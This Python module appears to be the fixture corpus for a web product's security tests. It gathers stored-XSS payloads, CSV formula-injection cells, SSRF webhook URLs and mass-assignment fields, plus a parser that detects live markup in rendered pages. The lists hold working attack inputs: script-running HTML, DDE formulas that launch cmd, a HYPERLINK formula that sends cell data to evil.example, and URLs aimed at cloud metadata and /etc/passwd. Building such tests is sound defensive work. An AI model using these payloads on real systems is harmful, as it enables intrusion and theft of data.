"""The bad-input corpus: what an attacker types into every text a user or an integration can set.

Tests under tests/security/ push each list through every place it can enter (the API, the
pages' forms, the public capture endpoint, CSV imports, playbook steps) and read it back on
every page, CSV and email it reaches. `live_markup` is the one judge of a rendered page: it
reports what a browser would run, so a payload shown as text passes and one that became a tag,
an attribute or a javascript: link fails.
"""

from html.parser import HTMLParser

# --- Stored XSS -----------------------------------------------------------------------------
# Each breaks out of one context: element text, a quoted or unquoted attribute, a URL attribute,
# a <script> or <style> block, a Django or email template, an SVG or MathML island.
XSS_HTML_TEXT = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<<script>script>alert(1)<</script>/script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr\x00ipt>alert(1)</script>",
]
XSS_ATTRIBUTE = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    " autofocus onfocus=alert(1) x=",
    '" hx-get="/admin/" hx-trigger="load',
    "x` onclick=`alert(1)",
]
XSS_URL = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
XSS_SCRIPT_CONTEXT = [
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "';alert(1);//",
    '";alert(1);//',
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
]
# Template syntax: never evaluated when a lead's text is shown or mailed.
XSS_TEMPLATE = [
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{{ unsubscribe_url }}",
    "{{ request.user.password }}",
    "${7*7}",
    "{{constructor.constructor('alert(1)')()}}",
]
XSS = XSS_HTML_TEXT + XSS_ATTRIBUTE + XSS_URL + XSS_SCRIPT_CONTEXT + XSS_TEMPLATE
# What each template payload would have become, had it been evaluated.
TEMPLATE_RESULTS = ["14", "49"]


class _Live(HTMLParser):
    """Collects what a browser would run or follow in a page that has no inline script or
    handler of its own (the CSP test scans every template for them)."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
    DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
    # Elements the product's pages never hold (no inline style under the CSP), through which
    # markup runs or re-parses: a <style> inside <math> becomes live HTML in a browser.
    NEVER_IN_A_PAGE = {"style", "math", "mglyph", "object", "embed", "base", "frame", "frameset", "applet"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_inline_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        if tag == "script" and "src" not in names and ("type", "application/json") not in attrs:
            self._in_inline_script = True
            self.found.append(f"an inline <script> {attrs}")
        if (
            tag in self.NEVER_IN_A_PAGE
            or (tag == "iframe" and "sandbox" not in names)
            or (tag == "meta" and "http-equiv" in names)
        ):
            self.found.append(f"<{tag}> {attrs}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name.startswith("hx-") and "/admin" in value:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in self.URL_ATTRIBUTES:
                spelt = "".join(c for c in value if c.isprintable() and not c.isspace()).lower()
                if spelt.startswith(self.DANGEROUS_SCHEMES):
                    self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_inline_script = False


def live_markup(html: str) -> list[str]:
    """What in `html` a browser would run: inline scripts, event handlers, javascript: and
    data: links, srcdoc frames, htmx attributes pointing at the admin. Empty for a safe page."""
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.found


# --- CSV formula injection ------------------------------------------------------------------
# A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one),
# and some read the full-width forms as the ASCII ones; invisible characters in front hide them.
FORMULA_BODIES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)"]
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe62"]
INVISIBLE_LEADS = ["\u200b", "\ufeff", "\u200c", "\u200d", "\u2060", "\u00a0", " ", "\u180e", "\u200e", "\u202e"]
CSV_FORMULAS = [
    *FORMULA_BODIES,
    '=cmd|" /C calc"!A0',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width ＝
    "\uff0b1+1",  # ＋
    "\uff0d1+1",  # －
    "\uff20SUM(1+1)",  # ＠
    "\ufe661+1",  # small equals ﹦
    *(f"{invisible}=1+1" for invisible in INVISIBLE_LEADS),
    "\u200b\ufeff\uff1d1+1",
    " \t=1+1",
]
# Cells that merely contain the characters later on, or start with a harmless one, stay as they are.
CSV_HARMLESS = ["Acme = Best", "a+b", "R&D - Spain", "user@example.com", "Zoë", "100", "(555) 0100"]
FORMULA_GUARD = "'"


def neutralised(cell: str) -> bool:
    """A cell a spreadsheet shows as text: it starts with the apostrophe that makes it one."""
    return cell.startswith(FORMULA_GUARD)


# --- SSRF spellings for webhook URLs --------------------------------------------------------
# (URL, a phrase the refusal must contain). Each is an address on this machine, its network or
# the cloud's metadata service, however written; or a scheme, userinfo or redirect trick.
SSRF = [
    ("http://127.0.0.1/", "loopback"),
    ("https://127.0.0.1/hook", "loopback"),
    ("https://127.1/", "loopback"),
    ("https://127.000.000.001/", "loopback"),
    ("https://0177.0.0.1/", "loopback"),
    ("https://0x7f000001/", "loopback"),
    ("https://0x7f.0x0.0x0.0x1/", "loopback"),
    ("https://2130706433/", "loopback"),
    ("https://017700000001/", "loopback"),
    ("https://127.0.0.1.:443/", "loopback"),
    ("https://１２７．０．０．１/", "loopback"),
    ("https://[::1]/", "loopback"),
    ("https://[0:0:0:0:0:0:0:1]/", "loopback"),
    ("https://[::ffff:127.0.0.1]/", "loopback"),
    ("https://[::ffff:7f00:1]/", "loopback"),
    ("https://0/", "unspecified"),
    ("https://0.0.0.0/", "unspecified"),
    ("https://[::]/", "unspecified"),
    ("https://localhost/", "this server"),
    ("https://LocalHost./", "this server"),
    ("https://api.localhost/", "this server"),
    ("https://169.254.169.254/latest/meta-data/iam/", "metadata"),
    ("https://2852039166/", "metadata"),
    ("https://0xa9.0xfe.0xa9.0xfe/", "metadata"),
    ("https://[::ffff:169.254.169.254]/", "metadata"),
    ("https://[fd00:ec2::254]/", "metadata"),
    ("https://metadata.google.internal/computeMetadata/v1/", ".internal"),
    ("https://metadata/", "no dot"),
    ("https://instance-data/", "no dot"),
    ("https://10.0.0.1/", "private-network"),
    ("https://012.0.0.1/", "private-network"),
    ("https://172.16.0.1/", "private-network"),
    ("https://192.168.0.1/", "private-network"),
    ("https://3232235521/", "private-network"),
    ("https://[fc00::1]/", "private-network"),
    ("https://100.64.0.1/", "carrier-grade NAT"),
    ("https://[fe80::1]/", "link-local"),
    ("https://224.0.0.1/", "multicast"),
    ("https://hooks.example.com@127.0.0.1/", "user name and password"),
    ("https://127.0.0.1#@hooks.example.com/", "loopback"),
    ("https://user:pass@hooks.example.com/", "user name and password"),
    ("https://hooks.example.com\\@127.0.0.1/", "user name and password"),
    ("file:///etc/passwd", "https://"),
    ("gopher://127.0.0.1:6379/_FLUSHALL", "https://"),
    ("dict://127.0.0.1:11211/stat", "https://"),
    ("ftp://hooks.example.com/", "https://"),
    ("javascript:alert(1)", "https://"),
    ("//127.0.0.1/", "missing its scheme"),
    ("http://hooks.example.com/", "Use https://"),
]
# Names a resolver table answers with private addresses (DNS rebinding: public when saved,
# private when sent), and the public address they answered with first.
PUBLIC_ADDRESS = "93.184.216.34"
PRIVATE_ANSWERS = {
    "loop.attacker.example": "127.0.0.1",
    "lan.attacker.example": "192.168.1.10",
    "meta.attacker.example": "169.254.169.254",
    "v6.attacker.example": "::1",
    "mapped.attacker.example": "::ffff:10.0.0.5",
}
# A public receiver that answers with a redirect to one of these is not followed.
REDIRECT_TARGETS = ["http://127.0.0.1/", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd"]

# --- Mass assignment ------------------------------------------------------------------------
# Fields an integration must not set on a lead by sending them: who owns it, its stage, its
# scores, its author and its unsubscribe state are the product's to decide.
LEAD_PROTECTED = {
    "id": 999_999,
    "owner": 1,
    "owner_id": 1,
    "stage": "customer",
    "score": 1000,
    "fit_score": 100,
    "engagement_score": 900,
    "score_breakdown": [{"rule": "forged", "points": 1000}],
    "created_by": 1,
    "created_at": "2000-01-01T00:00:00Z",
    "unsubscribed_at": None,
    "stage_history": [{"to_stage": "customer"}],
    "matched_persona": 1,
}
